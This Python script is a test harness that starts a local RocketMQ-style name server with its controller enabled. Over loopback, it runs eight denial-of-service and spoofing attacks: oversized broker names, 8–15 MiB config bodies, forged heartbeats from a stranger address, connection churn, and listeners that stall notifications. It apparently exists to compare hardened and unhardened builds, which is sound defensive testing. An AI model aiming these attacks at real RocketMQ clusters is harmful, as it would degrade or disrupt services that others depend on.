#!/usr/bin/env python3
"""Attack driver for the embedded Controller's port (a build with `--features controller`).

Starts a name server binary with enableControllerInNamesrv=true (one node, its store and log in
a temporary directory), prepares what the attack needs, then attacks the controller port over
loopback while a good client in a separate process asks the name server port for a route 100
times a second over its own connection (registry.py's). Prints one JSON object: the attacker's
answers (code, remark, time), the good client's p50/p99/max, and before and after the attack
the loop's `maxTurnMicros` / `longTurns` (the stats extension, 29001), RSS, the controller
store's bytes, the log file's bytes and the server's CPU seconds. Not part of `cargo test` (the
bounded versions are tests/controller_attack_*.rs); run it to compare two binaries, one after
the other, on the same machine:

    tests/attack/controller.py BIN MODE [key=value ...]

MODE is one of:

* names1006: one set of 1,024 ids (1012/1013/1003 per id, as a broker), then 3 x
  GET_SYNC_STATE_DATA naming that set 20,000 times (a 100 KB body);
* longhb: 2,000 heartbeats (904) of new brokers with 190 KB names; RSS and log bytes, then the
  attacker closes and RSS 5 s later;
* closedeath: a master elected from 127.0.0.4; a stranger at 127.0.0.5 heartbeats naming it
  (at the master's address, then at its own) and closes: 1004 before, 8 s after, and 8 s after
  the master's own close (the control: a real death is seen);
* reapply: 209 x 1013 re-applying the same id with the same check code, with a 2,000-byte name,
  then with a 255-byte one (the longest the hardened build takes): store growth of each;
* closes: 100,000 heartbeat entries (oneway, one connection kept open), then 3,000 bare
  connect-and-close in batches of 100, each batch followed by a 1005 on the controller port;
* newsets: 300 x 1013 creating new sets with 120 KB names;
* config1009: UPDATE_CONTROLLER_CONFIG with 8 MiB and 15 MiB bodies, then a one-line one;
* notify: a set of 256 ids registered at listeners whose accept queue is full (a connect there
  waits for its whole timeout) is elected again by an admin (enableElectUncleanMaster=true),
  then the master of a good set of two closes: how long until its slave gets its 1008? The
  hostile set's size is $RMQ_ATTACK_HOSTILE (256; 0 is the control).

Controller requests use RocketMQ's binary header (no JSON string limit stops a long name before
the controller sees it). Extra key=value arguments are passed to the server as --key=value.
"""

import contextlib
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import registry  # noqa: E402  (the name server's wire helpers, the good broker and client)
from registry import ATTACKER_IP, GoodBroker, GoodClient  # noqa: E402

MASTER_IP, STRANGER_IP = "127.0.0.4", "127.0.0.5"
ONEWAY = 2

# ----------------------------------------------------------------------------- wire


def bframe(code, ext=None, body=b"", opaque=1, flag=0):
    """A request with RocketMQ's binary header (serialize type 1)."""
    e = b""
    for k, v in (ext or {}).items():
        k, v = k.encode(), str(v).encode()
        e += struct.pack(">h", len(k)) + k + struct.pack(">i", len(v)) + v
    h = struct.pack(">hbhiii", code, 0, 479, opaque, flag, 0) + struct.pack(">i", len(e)) + e
    return struct.pack(">II", 4 + len(h) + len(body), 1 << 24 | len(h)) + h + body


def read_any(sock):
    """One answer, JSON or binary header, as (header dict, body)."""
    def exact(n):
        buf = bytearray()
        while len(buf) < n:
            chunk = sock.recv(min(n - len(buf), 1 << 20))
            if not chunk:
                raise ConnectionError("closed")
            buf += chunk
        return bytes(buf)

    length, word = struct.unpack(">II", exact(8))
    rest = exact(length - 4)
    head, body = rest[:word & 0xFFFFFF], rest[word & 0xFFFFFF:]
    if word >> 24 == 0:
        return json.loads(head), body
    code, _, _, opaque, flag, rlen = struct.unpack(">hbhiii", head[:17])
    remark, pos = head[17:17 + rlen].decode(errors="replace"), 17 + rlen + 4
    ext = {}
    while pos < len(head):
        (klen,) = struct.unpack(">h", head[pos:pos + 2])
        key = head[pos + 2:pos + 2 + klen].decode()
        (vlen,) = struct.unpack(">i", head[pos + 2 + klen:pos + 6 + klen])
        ext[key] = head[pos + 6 + klen:pos + 6 + klen + vlen].decode(errors="replace")
        pos += 6 + klen + vlen
    return {"code": code, "opaque": opaque, "remark": remark or None, "extFields": ext}, body


class Ctl:
    """A connection to the controller port."""

    def __init__(self, addr, source_ip=ATTACKER_IP, timeout=120):
        self.sock = socket.create_connection(addr, timeout=timeout, source_address=(source_ip, 0))
        self.opaque = 0

    def call(self, code, ext=None, body=b""):
        self.opaque += 1
        self.sock.sendall(bframe(code, ext, body, self.opaque))
        return read_any(self.sock)

    def timed(self, code, ext=None, body=b""):
        start = time.perf_counter()
        h, b = self.call(code, ext, body)
        return {"code": h["code"], "remark": (h.get("remark") or "")[:100],
                "ms": round((time.perf_counter() - start) * 1000, 1), "body_bytes": len(b)}

    def pipeline(self, requests, depth=8):
        """Sends (code, ext) requests keeping `depth` in flight; returns the answers' codes
        and first remarks by code."""
        codes, remarks, sent = [], {}, 0
        while len(codes) < len(requests):
            while sent < len(requests) and sent - len(codes) < depth:
                self.opaque += 1
                self.sock.sendall(bframe(*requests[sent], opaque=self.opaque))
                sent += 1
            h, _ = read_any(self.sock)
            codes.append(h["code"])
            remarks.setdefault(str(h["code"]), (h.get("remark") or "")[:100])
        return {"codes": {str(c): codes.count(c) for c in sorted(set(codes))}, "remarks": remarks}

    def oneway(self, frames):
        self.sock.sendall(b"".join(bframe(c, e, flag=ONEWAY) for c, e in frames))

    def close(self):
        self.sock.close()


def hb(name, broker_id, addr, cluster="c"):
    return {"clusterName": cluster, "brokerName": name, "brokerId": str(broker_id),
            "brokerAddr": addr, "heartbeatTimeoutMills": "60000"}


def apply_id(name, broker_id, check_code, cluster="c"):
    return {"clusterName": cluster, "brokerName": name, "appliedBrokerId": str(broker_id),
            "registerCheckCode": check_code}


def counted(answers):
    return {str(c): sum(1 for a in answers if a["code"] == c)
            for c in sorted({a["code"] for a in answers})}


# ----------------------------------------------------------------------------- server


class Server(registry.Server):
    """The name server with the controller on a second port; the log in a file."""

    def __init__(self, binary, extra):
        self.dir = tempfile.mkdtemp(prefix="rmq-controller-attack-")
        self.store, self.log = f"{self.dir}/controller", f"{self.dir}/namesrv.log"
        args = [binary, "--listenPort=0", "--bindAddress=127.0.0.1", f"--logPath={self.log}",
                "--logFileMaxSize=1099511627776", f"--kvConfigPath={self.dir}/kv.json",
                "--enableControllerInNamesrv=true", "--controllerDLegerGroup=group1",
                "--controllerDLegerPeers=n0-127.0.0.1:0", "--controllerDLegerSelfId=n0",
                f"--controllerStorePath={self.store}"] + [f"--{kv}" for kv in extra]
        self.proc = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                                     cwd=self.dir)
        found = {}
        while len(found) < 2:
            line = self.proc.stdout.readline().decode().strip()
            if not line:
                raise RuntimeError("the server did not announce its ports")
            host, port = line.rsplit(" ", 1)[1].rsplit(":", 1)
            found["ctl" if "controller" in line else "ns"] = (host, int(port))
        self.addr, self.ctl = found["ns"], found["ctl"]
        threading.Thread(target=self.proc.stdout.read, daemon=True).start()

    def cpu_s(self):
        with open(f"/proc/{self.proc.pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def snapshot(self):
        s = registry.stats(self.addr)
        return {"maxTurnMicros": s.get("maxTurnMicros"), "longTurns": s.get("longTurns"),
                "rss_mib": self.rss_mib(), "store_bytes": dir_bytes(self.store),
                "log_bytes": dir_bytes(self.dir, only=os.path.basename(self.log)),
                "cpu_s": round(self.cpu_s(), 2)}


def dir_bytes(path, only=None):
    total = 0
    for root, _, files in os.walk(path):
        total += sum(os.path.getsize(os.path.join(root, f)) for f in files
                     if only is None or f.startswith(only))
    return total


@contextlib.contextmanager
def measured(server, result):
    """The attack in the block, with the good client around it and a snapshot either side."""
    result["before"] = server.snapshot()
    client = GoodClient(server.addr, 1_000_000)  # stopped below
    time.sleep(1)
    start = time.time()
    yield
    result["attack_s"] = round(time.time() - start, 1)
    time.sleep(1)
    client.proc.send_signal(signal.SIGINT)
    result["good_client"] = client.result()
    result["after"] = server.snapshot()


# ----------------------------------------------------------------------------- attacks


def attack_names1006(server, r, ids=1024):
    ctl = Ctl(server.ctl)
    setup = []
    for i in range(1, ids + 1):
        h, _ = ctl.call(1012, {"clusterName": "c", "brokerName": "a1"})
        nid = h.get("extFields", {}).get("nextBrokerId", str(i))
        addr = f"127.0.0.1:{20000 + i}"
        setup.append(ctl.call(1013, apply_id("a1", nid, f"{addr};1"))[0])
        setup.append(ctl.call(1003, {"clusterName": "c", "brokerName": "a1", "brokerId": nid,
                                     "brokerAddress": addr})[0])
    r["setup_codes"] = counted(setup)
    body = json.dumps(["a1"] * 20_000, separators=(",", ":")).encode()
    r["body_bytes"] = len(body)
    with measured(server, r):
        r["answers"] = [ctl.timed(1006, None, body) for _ in range(3)]


def attack_longhb(server, r, count=2000, size=190_000):
    ctl = Ctl(server.ctl)
    long = "n" * size
    with measured(server, r):
        r["answers"] = ctl.pipeline(
            [(904, hb(f"{i:05d}{long}", 1, "127.0.0.1:10911")) for i in range(count)])
    ctl.close()
    time.sleep(5)
    r["rss_5s_after_close_mib"] = server.rss_mib()
    r["log_bytes_5s_after_close"] = server.snapshot()["log_bytes"]


def master_now(server, name="b"):
    c = Ctl(server.ctl, registry.ADMIN_IP)
    ext = c.call(1004, {"brokerName": name})[0].get("extFields", {})
    c.close()
    return {k: ext.get(k) for k in ("masterBrokerId", "masterEpoch", "masterAddress")}


def attack_closedeath(server, r):
    addr = f"{MASTER_IP}:10911"
    master = Ctl(server.ctl, MASTER_IP)
    r["setup"] = [master.call(*req)[0]["code"] for req in [
        (1013, apply_id("b", 1, f"{addr};1")),
        (1003, {"clusterName": "c", "brokerName": "b", "brokerId": "1", "brokerAddress": addr}),
        (904, hb("b", 1, addr)),
        (1002, {"clusterName": "c", "brokerName": "b", "brokerId": "1"})]]
    r["master_before"] = master_now(server)
    with measured(server, r):
        stranger = Ctl(server.ctl, STRANGER_IP)
        r["answers"] = [stranger.timed(904, hb("b", 1, a))
                        for a in (addr, f"{STRANGER_IP}:10911")]
        stranger.close()
        time.sleep(8)
    r["master_8s_after_stranger_close"] = master_now(server)
    master.close()
    time.sleep(8)
    r["master_8s_after_master_close"] = master_now(server)


def attack_reapply(server, r, repeats=209):
    ctl = Ctl(server.ctl)
    check = f"{ATTACKER_IP}:30911;" + "7" * 32
    with measured(server, r):
        for label, length in (("name2000", 2000), ("name255", 255)):
            name = label[:5] + "r" * (length - 5)
            first = ctl.timed(1013, apply_id(name, 1, check))
            stored = dir_bytes(server.store)
            rest = ctl.pipeline([(1013, apply_id(name, 1, check))] * repeats, depth=1)
            r[label] = {"first": first, "repeats": rest,
                        "store_growth_over_repeats": dir_bytes(server.store) - stored}


def register_id(ctl, name, broker_id, addr, cluster="c"):
    """1013, 1003 and a heartbeat, as a broker; the codes."""
    codes = [ctl.call(1013, apply_id(name, broker_id, f"{addr};1", cluster))[0]["code"],
             ctl.call(1003, {"clusterName": cluster, "brokerName": name,
                             "brokerId": str(broker_id), "brokerAddress": addr})[0]["code"]]
    ctl.oneway([(904, hb(name, broker_id, addr, cluster))])
    return codes


def notices(listener, seen):
    """A broker's port: (time, masterBrokerId) of each 1008 it is sent."""
    while True:
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        def read(c=conn):
            with contextlib.suppress(OSError, ConnectionError, ValueError):
                while True:
                    h, _ = read_any(c)
                    seen.append((time.time(), h.get("extFields", {}).get("masterBrokerId")))
        threading.Thread(target=read, daemon=True).start()


def attack_notify(server, r):
    """A set of 256 ids at addresses that swallow connects is elected again (its 1008s go
    nowhere), then a good set's master closes: when does the new master hear of it? The size
    of the set is $RMQ_ATTACK_HOSTILE (default 256; 0 is the control)."""
    hostile = int(os.environ.get("RMQ_ATTACK_HOSTILE", "256"))
    a_ip, b_ip = "127.0.0.6", "127.0.0.7"
    listeners, seen = [], []
    for ip in (a_ip, b_ip):
        listeners.append(socket.create_server((ip, 0)))
        threading.Thread(target=notices, args=(listeners[-1], seen), daemon=True).start()
    addr_a, addr_b = (f"{ip}:{l.getsockname()[1]}" for ip, l in zip((a_ip, b_ip), listeners))
    a, b = Ctl(server.ctl, a_ip), Ctl(server.ctl, b_ip)
    setup = register_id(a, "good", 1, addr_a)
    h, _ = a.call(1002, {"clusterName": "c", "brokerName": "good", "brokerId": "1"})
    setup += [h["code"]] + register_id(b, "good", 2, addr_b)
    sync = json.dumps({"syncStateSet": [1, 2], "syncStateSetEpoch": int(
        h["extFields"].get("syncStateSetEpoch", 1))}).encode()
    setup.append(a.call(1001, {"brokerName": "good", "masterBrokerId": "1", "masterEpoch":
                               h["extFields"].get("masterEpoch", "1"),
                               "invokeTime": str(int(time.time() * 1000))}, sync)[0]["code"])
    swallowers = []
    for _ in range(hostile):
        sw = socket.socket()
        sw.bind((ATTACKER_IP, 0))
        sw.listen(0)
        swallowers.append((sw, socket.create_connection(sw.getsockname())))
    ctl = Ctl(server.ctl)
    for i, (sw, _) in enumerate(swallowers):
        setup += register_id(ctl, "swallow", i + 1, f"{ATTACKER_IP}:{sw.getsockname()[1]}")
    elect = {"clusterName": "c", "brokerName": "swallow", "brokerId": "1"}
    if hostile:
        setup.append(ctl.call(1002, elect)[0]["code"])
    r["setup_codes"] = {str(c): setup.count(c) for c in sorted(set(setup))}
    def keep_alive():  # the slave stays active however long the notification takes
        with contextlib.suppress(OSError):
            while not seen or all(m != "2" for _, m in seen):
                time.sleep(5)
                b.oneway([(904, hb("good", 2, addr_b))])
    threading.Thread(target=keep_alive, daemon=True).start()
    with measured(server, r):
        if hostile:
            r["answers"] = [ctl.timed(1002, dict(elect, brokerId="2", designateElect="true"))]
        closed = time.time()
        a.close()
        registry.wait_until(lambda: any(m == "2" for _, m in seen), timeout=600)
        heard = [t for t, m in seen if m == "2"]
        r["new_master_notified_after_s"] = round(heard[0] - closed, 2) if heard else None
    r["good_set_master"] = master_now(server, "good")
    for sw, filler in swallowers:
        sw.close()
        filler.close()


def attack_closes(server, r, entries=100_000, closes=3000):
    filler = Ctl(server.ctl)
    # In steps of 1,000, each waited for (a 1005 is answered after the oneway heartbeats
    # before it): the setup's own turns stay short, below what the closes may cost.
    for start in range(0, entries, 1000):
        filler.oneway([(904, hb(f"s{i // 4}", i % 4 + 1, "127.0.0.1:10911"))
                       for i in range(start, min(entries, start + 1000))])
        r["sync_1005"] = filler.call(1005)[0]["code"]
    good = Ctl(server.ctl, registry.ADMIN_IP)
    slowest = 0.0
    with measured(server, r):
        for _ in range(closes // 100):
            for _ in range(100):
                socket.create_connection(server.ctl, timeout=10).close()
            slowest = max(slowest, good.timed(1005)["ms"])
    r["controller_1005_slowest_ms"] = slowest
    r["filler_still_known"] = filler.call(904, hb("s0", 1, "127.0.0.1:10911"))[0]["code"]


def attack_newsets(server, r, count=300, size=120 * 1024):
    ctl = Ctl(server.ctl)
    long = "b" * size
    with measured(server, r):
        r["answers"] = ctl.pipeline(
            [(1013, apply_id(f"{i}{long}", 1, f"{ATTACKER_IP}:30911;1")) for i in range(count)],
            depth=1)


def attack_config1009(server, r):
    ctl = Ctl(server.ctl)
    line = b"electMasterMaxRetryCount=3\n"
    with measured(server, r):
        r["answers"] = [dict(ctl.timed(1009, None, line * (mib * 1024 * 1024 // len(line))),
                             mib=mib) for mib in (8, 15)]
    r["one_line_after"] = ctl.timed(1009, None, line)


ATTACKS = {"names1006": attack_names1006, "longhb": attack_longhb,
           "closedeath": attack_closedeath, "reapply": attack_reapply, "closes": attack_closes,
           "newsets": attack_newsets, "config1009": attack_config1009, "notify": attack_notify}


def main():
    binary, name, extra = sys.argv[1], sys.argv[2], sys.argv[3:]
    if name == "notify":  # the admin may designate any active id of the hostile set
        extra = ["enableElectUncleanMaster=true"] + extra
    server = Server(binary, extra)
    result = {"attack": name, "binary": binary, "extra": extra,
              "loadavg_start": open("/proc/loadavg").read().split()[:3]}
    try:
        good = GoodBroker(server.addr)  # its route is what the good client reads
        ATTACKS[name](server, result)
        good.stop_flag = True
        result["loadavg_end"] = open("/proc/loadavg").read().split()[:3]
    finally:
        server.stop()
    print(json.dumps(result))


if __name__ == "__main__":
    main()
